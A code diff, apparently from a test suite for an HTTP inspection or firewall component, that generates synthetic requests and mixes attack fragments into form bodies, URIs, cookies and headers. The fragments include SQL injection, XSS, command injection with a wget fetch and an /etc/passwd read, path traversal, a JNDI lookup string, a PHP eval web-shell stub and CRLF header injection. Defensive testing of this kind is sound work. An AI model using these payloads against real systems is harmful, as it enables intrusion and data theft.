@@ -47,6 +47,22 @@ function requestsOf(turn: number): readonly HttpRequest[] {
   const field = (name: string, more: string, value: string): string =>
     `--B${turn}\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`
   const parts = field('text', '', textOf(turn, 20)) + field('file', '; filename="a.png"', 'bytes')
+  const attacks = (number: number): readonly HttpRequest[] => {
+    const text = attackOf(number)
+    const form = post(
+      'application/x-www-form-urlencoded',
+      `a=${encodeURIComponent(text)}&b=${encodeURIComponent(text.slice(0, 99))}`,
+    )
+    const everywhere: readonly Header[] = [
+      ['Cookie', `a=${text}`],
+      ['Referer', text],
+      ['User-Agent', text],
+    ]
+    return [
+      form,
+      { ...form, uri: `/${encodeURIComponent(text)}`, headers: [...headersOf(number), ...everywhere], body: '' },
+    ]
+  }
   return [
     {
       ...post('', ''),
@@ -58,20 +74,64 @@ function requestsOf(turn: number): readonly HttpRequest[] {
     post('application/json', JSON.stringify({ items: [item, item], user: `u${turn}` })),
     post(`multipart/form-data; boundary=B${turn}`, `${parts}--B${turn}--\r\n`),
     post('text/xml', `<order id="${turn}"><item>${textOf(turn, 8)}</item></order>`),
-    ...(turn % 6 === 0 ? [post('application/x-www-form-urlencoded', attackOf(turn))] : []),
+    ...(turn % 6 === 0 ? attacks(turn / 6) : []),
   ]
 }
 
-const attackOf = (turn: number): string =>
-  [
-    "' or 1=1 union select a,b from c -- ",
+/** What attacks are made of; each turn has it in another order, so that patterns meet each other's beginnings. */
+const pieces = [
+  ...[
+    "' or 1=1",
+    'union select a,b from c',
+    'where x like',
+    '-- ',
+    '/*',
+    '*/',
+    'sleep(5)',
+    'char(0x41)',
+    '";',
+    '`',
+    ' and ',
+  ],
+  ...[
     '<script>alert(1)</script>',
+    '<img src=x onerror=',
+    'javascript:',
+    'style=',
+    '&lt;',
+    '&#x3c;',
+    '<!--',
+    '">',
+    '<a href=',
+  ],
+  ...[
     ';cat /etc/passwd|id',
-    '../../etc/passwd',
+    '$(wget http://a/b)',
+    '\x24{IFS}',
+    'c\\at',
+    '../../',
+    '%2e%2e/',
     '\x24{jndi:ldap://a}',
-  ]
-    .map((text, at) => `a${at}=${encodeURIComponent(text)}${turn}`)
-    .join('&')
+    '{',
+    '}',
+    '?',
+    '*',
+  ],
+  ...[
+    '<?php eval($_GET[a])',
+    'base64_decode(',
+    'System.out',
+    'require("a").b',
+    '__proto__',
+    '\r\nSet-Cookie: a=b',
+    '\\u003c',
+    '%u003c',
+  ],
+]
+function attackOf(turn: number): string {
+  const step = [1, 3, 5, 7, 9, 11][turn % 6]!
+  return Array.from({ length: 120 }, (_, at) => pieces[(at * step + turn) % pieces.length]!).join(turn % 2 ? ' ' : '')
+}
 
 const page: HttpResponse = {
   status: 200,
